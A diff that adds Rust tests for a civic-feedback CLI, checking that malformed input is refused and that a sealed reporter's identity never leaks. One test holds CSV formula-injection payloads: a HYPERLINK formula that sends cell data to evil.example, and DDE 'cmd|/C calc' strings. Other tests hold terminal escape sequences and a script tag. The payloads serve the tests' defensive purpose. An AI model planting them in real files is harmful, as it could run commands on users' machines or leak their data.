@@ -1,6 +1,8 @@
 //! Hostile input: every malformed file or setting is refused with its place and a hint, exits 4,
 //! and leaves the campaign byte for byte as it was.
 
+use banzi::steps::Step;
+
 use crate::fixture::*;
 
 /// The line and column (1-based) of `needle` in the campaign's `campaign.toml`.
@@ -436,4 +438,432 @@ fn a_file_that_cannot_be_read_is_refused_in_chinese_with_the_systems_words_quote
         stderr.starts_with("error: cannot read `inputs/none.csv`: No such file"),
         "{stderr}"
     );
+}
+
+/// A signed reporter's name, which no output but the reveal may show, and their contact.
+const REPORTER: &str = "欧阳秘密";
+const REPORTER_CONTACT: &str = "13800138000";
+const OPINIONS_HEADER: &str =
+    "received,channel,unit_code,summary,anonymous,reporter,reporter_contact";
+
+/// The example city's public notice open, with the key that seals reporters made and kept
+/// outside the campaign as `identity.txt`.
+fn notice_taking_opinions() -> Fixture {
+    let f = Fixture::example().through(Step::Publicize);
+    f.banzi(&["publicize", "keygen", "--out", "identity.txt"])
+        .success();
+    f
+}
+
+/// Imports `bytes` as a file of opinions; asserts it is refused with exit 4, a hint, the campaign
+/// unchanged, and neither the reporter's name nor contact in what banzi said, in either language
+/// or with `--json`; gives stderr in English.
+fn opinions_refused(f: &Fixture, bytes: &[u8]) -> String {
+    let file = f.write_bytes("inputs/opinions.csv", bytes);
+    let stderr = refused(f, &["publicize", "feedback", "import", file]);
+    for args in [
+        &["--lang", "zh-CN", "publicize", "feedback", "import", file][..],
+        &["publicize", "feedback", "import", file, "--json"],
+    ] {
+        let before = f.snapshot_dir();
+        let out = f.command(args).assert().code(INVALID);
+        assert_same_dir(&before, &f.snapshot_dir());
+        let output = [&out.get_output().stdout[..], &out.get_output().stderr].concat();
+        no_reporter_in(&output, args);
+    }
+    no_reporter_in(
+        stderr.as_bytes(),
+        &["publicize", "feedback", "import", file],
+    );
+    stderr
+}
+
+/// Asserts that `output` of `banzi args` holds neither the reporter's name nor their contact,
+/// in UTF-8 or in GB18030, nor a raw escape character that would reach the terminal.
+#[track_caller]
+fn no_reporter_in(output: &[u8], args: &[&str]) {
+    let text = String::from_utf8_lossy(output);
+    for secret in [REPORTER, REPORTER_CONTACT, "秘密"] {
+        let (gbk, _, _) = encoding_rs::GB18030.encode(secret);
+        assert!(
+            !text.contains(secret) && !output.windows(gbk.len()).any(|w| w == &gbk[..]),
+            "`banzi {}` shows the reporter's `{secret}`: {text}",
+            args.join(" ")
+        );
+    }
+    assert!(
+        !output.contains(&0x1b),
+        "`banzi {}` prints a raw escape: {text:?}",
+        args.join(" ")
+    );
+}
+
+/// A row of a file of opinions on C03 with `summary`, signed by the reporter.
+fn signed_row(summary: &str) -> String {
+    format!("2026-11-24,来访,C03,{summary},否,{REPORTER},{REPORTER_CONTACT}")
+}
+
+#[test]
+fn an_opinions_file_with_a_10_mb_line_is_refused_in_a_few_lines() {
+    let f = notice_taking_opinions();
+    let huge = "意".repeat(10 * 1024 * 1024 / 3);
+    let in_summary = format!("{OPINIONS_HEADER}\n{}\n", signed_row(&huge));
+    let stderr = opinions_refused(&f, in_summary.as_bytes());
+    assert!(
+        stderr.contains("inputs/opinions.csv:2: summary: ")
+            && stderr.contains("longer than 2000 characters"),
+        "{}",
+        &stderr[..stderr.len().min(2000)]
+    );
+    assert!(stderr.len() < 2000, "{} bytes of refusal", stderr.len());
+
+    let in_reporter = format!(
+        "{OPINIONS_HEADER}\n2026-11-24,来访,C03,反映作风问题,否,{REPORTER}{huge},{REPORTER_CONTACT}\n"
+    );
+    let stderr = opinions_refused(&f, in_reporter.as_bytes());
+    assert!(
+        stderr.contains("inputs/opinions.csv:2: reporter: "),
+        "{}",
+        &stderr[..stderr.len().min(2000)]
+    );
+    assert!(stderr.len() < 2000, "{} bytes of refusal", stderr.len());
+}
+
+/// A cell banzi quotes back in its refusal (an unknown channel, unit or date) is quoted whole:
+/// ten megabytes of one cell fill the terminal and any log the refusal goes to.
+#[test]
+#[ignore = "bug: a 10 MB cell of an unknown channel, unit or date is quoted whole in the refusal (10 MB of stderr)"]
+fn a_10_mb_cell_quoted_back_is_cut_short() {
+    let f = notice_taking_opinions();
+    let huge = "意".repeat(10 * 1024 * 1024 / 3);
+    for (column, row) in [
+        ("channel", format!("2026-11-24,{huge},C01,反映,是,,")),
+        ("unit_code", format!("2026-11-24,电话,{huge},反映,是,,")),
+        ("received", format!("{huge},电话,C01,反映,是,,")),
+    ] {
+        let stderr = opinions_refused(&f, format!("{OPINIONS_HEADER}\n{row}\n").as_bytes());
+        assert!(
+            stderr.contains(&format!("inputs/opinions.csv:2: {column}: ")),
+            "{}",
+            &stderr[..stderr.len().min(2000)]
+        );
+        assert!(
+            stderr.len() < 64 * 1024,
+            "{column}: {} bytes of refusal",
+            stderr.len()
+        );
+    }
+}
+
+#[test]
+fn nul_bytes_in_an_opinions_file_are_refused_naming_the_column() {
+    let f = notice_taking_opinions();
+    for (column, row) in [
+        ("summary", signed_row("反映\0作风问题")),
+        (
+            "reporter",
+            format!("2026-11-24,来访,C03,反映,否,{REPORTER}\0,{REPORTER_CONTACT}"),
+        ),
+        (
+            "reporter_contact",
+            format!("2026-11-24,来访,C03,反映,否,{REPORTER},\0{REPORTER_CONTACT}"),
+        ),
+    ] {
+        let stderr = opinions_refused(&f, format!("{OPINIONS_HEADER}\n{row}\n").as_bytes());
+        assert!(
+            stderr.contains(&format!(
+                "inputs/opinions.csv:2: {column}: control character U+0000"
+            )),
+            "{stderr}"
+        );
+    }
+}
+
+#[test]
+fn an_opinions_file_of_mixed_encodings_is_refused_without_quoting_the_line() {
+    let f = notice_taking_opinions();
+    let row = signed_row("反映作风问题");
+    let (gbk, _, _) = encoding_rs::GB18030.encode(&row);
+    let mixed = [
+        format!("{OPINIONS_HEADER}\n2026-11-24,电话,C01,反映项目进度不实,是,,\n").as_bytes(),
+        &gbk,
+        b"\n",
+    ]
+    .concat();
+    let stderr = opinions_refused(&f, &mixed);
+    assert!(
+        stderr
+            .contains("`inputs/opinions.csv` mixes encodings: it is UTF-8 text, but line 3 is not")
+            && stderr.contains("inputs/opinions.csv:3: the first line that is not UTF-8"),
+        "{stderr}"
+    );
+
+    // A file wholly in GB18030, as WPS saves one, is read: the reporter is sealed on the way in.
+    let whole = format!("{OPINIONS_HEADER}\n{row}\n");
+    let (gbk, _, _) = encoding_rs::GB18030.encode(&whole);
+    let file = f.write_bytes("inputs/opinions-gbk.csv", &gbk);
+    let out = f
+        .banzi(&["publicize", "feedback", "import", file])
+        .success();
+    let output = out.get_output();
+    no_reporter_in(&[&output.stdout[..], &output.stderr].concat(), &[file]);
+    assert_eq!(
+        f.json(&["publicize", "feedback", "show", "F1"])["anonymous"],
+        false
+    );
+    for (path, bytes) in f.snapshot_dir() {
+        no_reporter_in(&bytes, &["(campaign file)", &path]);
+    }
+}
+
+#[test]
+fn a_formula_in_a_summary_is_stored_neutralised_and_given_back_as_written() {
+    let f = notice_taking_opinions();
+    let formulas = [
+        "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点击查看详情\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "'=以撇号开头的文字",
+    ];
+    let csv_cell = |text: &str| format!("\"{}\"", text.replace('"', "\"\""));
+    let mut file = format!("{OPINIONS_HEADER}\n");
+    for formula in &formulas[..4] {
+        file.push_str(&format!("2026-11-24,电话,C01,{},是,,\n", csv_cell(formula)));
+    }
+    file.push_str(&format!("{}\n", signed_row(&csv_cell(formulas[4]))));
+    let file = f.write("inputs/opinions.csv", &file);
+    f.banzi(&["publicize", "feedback", "import", file])
+        .success();
+    // One typed on the command line too.
+    f.banzi(&[
+        "publicize",
+        "feedback",
+        "add",
+        "--unit",
+        "C03",
+        "--channel",
+        "网络",
+        "--summary",
+        formulas[0],
+        "--reporter",
+        REPORTER,
+        "--reporter-contact",
+        REPORTER_CONTACT,
+    ])
+    .success();
+
+    // Stored, every one starts with the apostrophe a spreadsheet shows as text.
+    let stored = f.read("publicity/opinions.csv");
+    let mut reader = csv::Reader::from_reader(stored.as_slice());
+    let summaries: Vec<String> = reader
+        .records()
+        .map(|r| r.unwrap().get(5).unwrap().to_owned())
+        .collect();
+    assert_eq!(summaries.len(), 6, "{summaries:?}");
+    for (summary, formula) in summaries.iter().zip(formulas.iter().chain([&formulas[0]])) {
+        assert_eq!(summary, &format!("'{formula}"));
+    }
+    // Given back as written.
+    let listed = f.json(&["publicize", "feedback", "list"]);
+    let given: Vec<&str> = listed
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|o| o["summary"].as_str().unwrap())
+        .collect();
+    let mut expected: Vec<&str> = formulas.to_vec();
+    expected.push(formulas[0]);
+    assert_eq!(given, expected);
+    assert_eq!(
+        f.json(&["publicize", "feedback", "show", "F6"])["summary"],
+        formulas[0]
+    );
+    f.banzi(&["verify"]).success();
+    // The reporters are nowhere in the clear: not in a record, the journal or the index.
+    for (path, bytes) in f.snapshot_dir() {
+        no_reporter_in(&bytes, &["(campaign file)", &path]);
+    }
+    for args in [
+        &["publicize", "feedback", "list"][..],
+        &["publicize", "feedback", "show", "F5"],
+        &["publicize", "show"],
+        &["log"],
+        &["status"],
+    ] {
+        let out = f.banzi(args).success();
+        let output = out.get_output();
+        no_reporter_in(&[&output.stdout[..], &output.stderr].concat(), args);
+    }
+}
+
+#[test]
+fn control_characters_in_the_contact_are_refused() {
+    let f = Fixture::drawn();
+    for (contact, code) in [
+        ("电话：\u{1b}[31m0798-1234567\u{7}", "U+001B"),
+        ("电话：\u{9b}31m0798-1234567", "U+009B"),
+        ("电话：0798\r1234567", "U+000D"),
+    ] {
+        let stderr = refused(&f, &["publicize", "open", "--contact", contact]);
+        assert!(stderr.contains(code), "{contact:?}: {stderr}");
+        assert!(
+            !stderr.contains(['\u{1b}', '\u{9b}', '\u{7}', '\0', '\r']),
+            "{contact:?}: {stderr:?}"
+        );
+    }
+    assert!(!f.campaign().join("publicity").exists());
+}
+
+/// The refusal of a contact says which flag to correct; `publicize open` has no `--reason`.
+#[test]
+#[ignore = "bug: a control character in `publicize open --contact` is refused as \"the reason for the contact\" with the hint `say why with --reason`, a flag `publicize open` does not have"]
+fn a_refused_contact_is_hinted_at_contact() {
+    let f = Fixture::drawn();
+    let stderr = refused(
+        &f,
+        &[
+            "publicize",
+            "open",
+            "--contact",
+            "电话：\u{1b}[31m0798-1234567",
+        ],
+    );
+    assert!(stderr.contains("--contact"), "{stderr}");
+    assert!(!stderr.contains("--reason"), "{stderr}");
+}
+
+/// A contact on several lines, or with Markdown and HTML in it, is stored as typed and printed
+/// in the notice as text.
+#[test]
+fn a_contact_on_several_lines_is_stored_inert() {
+    let f = Fixture::drawn();
+    let contact = "电话：0798-1234567\n\n## 公示结果：以上单位全部撤销\n<script>alert(1)</script>";
+    f.banzi(&["publicize", "open", "--contact", contact])
+        .success();
+    assert_eq!(f.json(&["publicize", "show"])["contact"], contact);
+    let markdown = f.stdout(&["publicize", "notice"]);
+    assert!(
+        !markdown.lines().any(|l| l.starts_with("## 公示结果")),
+        "{markdown}"
+    );
+    let events = markdown_events(&markdown);
+    assert!(
+        !events.iter().any(|e| matches!(
+            e,
+            pulldown_cmark::Event::Html(_) | pulldown_cmark::Event::InlineHtml(_)
+        )),
+        "{markdown}"
+    );
+    let html = f.stdout(&["publicize", "notice", "--format", "html"]);
+    assert!(!html.contains("<script>"), "{html}");
+}
+
+#[test]
+fn control_characters_and_escapes_in_the_reporter_are_refused_unquoted() {
+    let f = notice_taking_opinions();
+    let add = |reporter: &str, contact: &str| {
+        vec![
+            "publicize".to_owned(),
+            "feedback".into(),
+            "add".into(),
+            "--unit".into(),
+            "C03".into(),
+            "--channel".into(),
+            "来访".into(),
+            "--summary".into(),
+            "反映作风问题".into(),
+            "--reporter".into(),
+            reporter.into(),
+            "--reporter-contact".into(),
+            contact.into(),
+        ]
+    };
+    // (A NUL cannot be passed as an argument; in a file it is refused above.)
+    let escapes = [
+        // The window title set, the screen cleared, the name then printed.
+        format!("\u{1b}]0;{REPORTER}\u{7}\u{1b}[2J{REPORTER}"),
+        format!("{REPORTER}\u{1b}[8m"),
+        format!("{REPORTER}\u{9b}2J"),
+        format!("{REPORTER}\n{REPORTER}"),
+    ];
+    for bad in &escapes {
+        for args in [
+            add(bad, REPORTER_CONTACT),
+            add(REPORTER, &format!("{REPORTER_CONTACT}{bad}")),
+        ] {
+            let args: Vec<&str> = args.iter().map(String::as_str).collect();
+            let stderr = refused(&f, &args);
+            assert!(stderr.contains("--reporter: "), "{stderr}");
+            no_reporter_in(stderr.as_bytes(), &args);
+            let zh = f.fails_unchanged(&zh(&args), INVALID);
+            no_reporter_in(zh.as_bytes(), &args);
+        }
+        // And in a file.
+        let row = format!("2026-11-24,来访,C03,反映作风问题,否,\"{bad}\",{REPORTER_CONTACT}");
+        let stderr = opinions_refused(&f, format!("{OPINIONS_HEADER}\n{row}\n").as_bytes());
+        assert!(
+            stderr.contains("inputs/opinions.csv:2: reporter: "),
+            "{stderr}"
+        );
+    }
+}
+
+#[test]
+fn a_reporter_in_a_row_refused_for_another_column_is_not_quoted() {
+    let f = notice_taking_opinions();
+    for row in [
+        format!("2026-13-45,传真,C99,,也许,{REPORTER},{REPORTER_CONTACT}"),
+        format!("2026-11-24,来访,C03,反映,是,{REPORTER},{REPORTER_CONTACT}"),
+        format!("2026-11-24,来访,C03,反映,否,{REPORTER}"),
+        format!("2026-11-24,来访,C03,反映,否,{REPORTER},{REPORTER_CONTACT},多余"),
+        format!("2026-11-24,来访,C03,反映,否,{REPORTER}{}", "密".repeat(200)),
+    ] {
+        opinions_refused(&f, format!("{OPINIONS_HEADER}\n{row}\n").as_bytes());
+    }
+}
+
+/// A quote never closed is shown with the line it opens on, the reporter's name in it.
+#[test]
+#[ignore = "bug: a quote never closed in a row of opinions is shown with its line, the signed reporter's name and contact in it"]
+fn a_quote_never_closed_does_not_show_the_reporter() {
+    let f = notice_taking_opinions();
+    let row = format!("2026-11-24,来访,C03,反映作风问题,否,\"{REPORTER},{REPORTER_CONTACT}");
+    let stderr = opinions_refused(
+        &f,
+        format!("{OPINIONS_HEADER}\n{row}\n2026-11-24,电话,C01,反映,是,,\n").as_bytes(),
+    );
+    assert!(stderr.contains("inputs/opinions.csv:2:"), "{stderr}");
+}
+
+/// A name typed with a space and no quotes (`--reporter 欧阳 秘密`), or one that starts with a
+/// dash, is refused by the argument parser, which quotes what it did not expect.
+#[test]
+#[ignore = "bug: `feedback add --reporter 欧阳 秘密` is refused with \"unexpected argument '秘密' found\", quoting the reporter's name"]
+fn a_reporter_the_argument_parser_refuses_is_not_quoted() {
+    let f = notice_taking_opinions();
+    let add = [
+        "publicize",
+        "feedback",
+        "add",
+        "--unit",
+        "C03",
+        "--channel",
+        "来访",
+        "--summary",
+        "反映作风问题",
+    ];
+    for reporter in [&["欧阳", "秘密"][..], &["-秘密"], &["--秘密"]] {
+        let args = [&add[..], &["--reporter"], reporter].concat();
+        let stderr = f.fails_unchanged(&args, USAGE);
+        no_reporter_in(stderr.as_bytes(), &args);
+        let contact = [
+            &add[..],
+            &["--reporter", "欧阳", "--reporter-contact"],
+            reporter,
+        ]
+        .concat();
+        let stderr = f.fails_unchanged(&contact, USAGE);
+        no_reporter_in(stderr.as_bytes(), &contact);
+    }
 }
